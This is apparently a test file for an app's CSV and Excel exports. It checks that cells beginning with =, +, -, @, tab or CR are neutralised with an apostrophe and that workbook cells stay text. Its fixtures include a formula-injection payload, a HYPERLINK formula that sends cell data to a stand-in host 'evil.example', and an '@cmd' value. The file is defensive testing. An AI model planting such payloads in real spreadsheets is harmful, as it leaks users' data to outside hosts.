/** Class 7 — exports never hand Excel a formula: CSV cells starting with =, +, -, @, tab or CR are neutralised; workbook cells are text. */
import ExcelJS from 'exceljs';
import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { csvCell, readCsv } from '../../shared/csv';
import { readImportFile, xlsxWriter } from '../../shared/spreadsheet';
import { startTestStack } from '../helpers/stack';

let stack: Awaited<ReturnType<typeof startTestStack>>;
beforeAll(async () => {
  stack = await startTestStack();
});
afterAll(() => stack?.stop());

it.each([
  ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['普通の文字', '普通の文字'],
  // Already starting with an apostrophe before a formula: marked again, so the read takes off only the mark.
  ["'=1", "''=1"],
  ["''-2", "'''-2"],
  ["'普通", "'普通"],
])('writes %j as %j', (value, cell) => {
  expect(csvCell(value)).toBe(cell);
});

const STORED_TEXTS = ['=1+1', "'=1+1", "''@x", '-3', "'", "it's", "'quoted'", '\t=1', "'\r=1", '普通の文字'];

it.each(STORED_TEXTS)('reads %j back, written by csvCell, as it was', (value) => {
  const { rows } = readCsv(`text\r\n${csvCell(value)}\r\n`);
  expect(rows[0].values.text).toBe(value);
});

it('reads every stored text back from a workbook the API wrote (xlsxWriter) as it was', async () => {
  const out = new PassThrough();
  const bytes = buffer(out);
  const sheet = xlsxWriter(out, 'texts', [{ key: 'text', ja: 'テキスト' }]);
  // A workbook's cells are read trimmed (a leading tab is white space there, never a formula).
  const texts = STORED_TEXTS.filter((t) => !/[\t\r]/.test(t));
  for (const text of texts) sheet.add({ text });
  await sheet.end();
  const { table } = await readImportFile(await bytes);
  // Row 2 holds the column keys, under the Japanese names.
  expect(table.rows.slice(1).map((r) => r.values.テキスト)).toEqual(texts);
});

it('keeps numbers as numbers, negative ones included', () => {
  expect(csvCell(-1.5)).toBe('-1.5');
  expect(csvCell(0)).toBe('0');
});

it('exports a topic that is a formula as text', async () => {
  const db = stack.dispatch.subgraph.dataSource;
  const [{ id: advisorId }] = await db.query("SELECT id FROM advisor WHERE prefecture_code = '01' ORDER BY id LIMIT 1");
  const formula = '=HYPERLINK("http://evil.example/","開く")';
  const recorded = await stack.query('mutation($i: RecordVisitInput!) { recordVisit(input: $i) { id } }', {
    i: {
      prefectureCode: '01',
      date: '2026-11-30',
      advisorIds: [advisorId],
      municipalityCodes: ['011002'],
      format: 'ONLINE',
      purposes: ['COUNCIL'],
      topics: [formula],
      summary: '@cmd',
    },
  });
  expect(recorded.body.errors).toBeUndefined();
  const response = await fetch(new URL('/export/visits.csv?prefecture=01', stack.gateway.url), { headers: stack.asAdmin });
  const csv = await response.text();
  const row = csv.split('\r\n').find((line) => line.includes(recorded.body.data!.recordVisit.id))!;
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/"",""開く"")"`);
  expect(row).toContain(",'@cmd,");
  expect(row).not.toMatch(/,=|,@|,"=/);
});

it('exports the same topic in a workbook as a text cell, never a formula', async () => {
  const response = await fetch(new URL('/export/visits.xlsx?prefecture=01', stack.gateway.url), { headers: stack.asAdmin });
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
  const topic = cells.find((c) => String(c.value).includes('evil.example'))!;
  expect(topic.type).toBe(ExcelJS.ValueType.String);
  expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
});
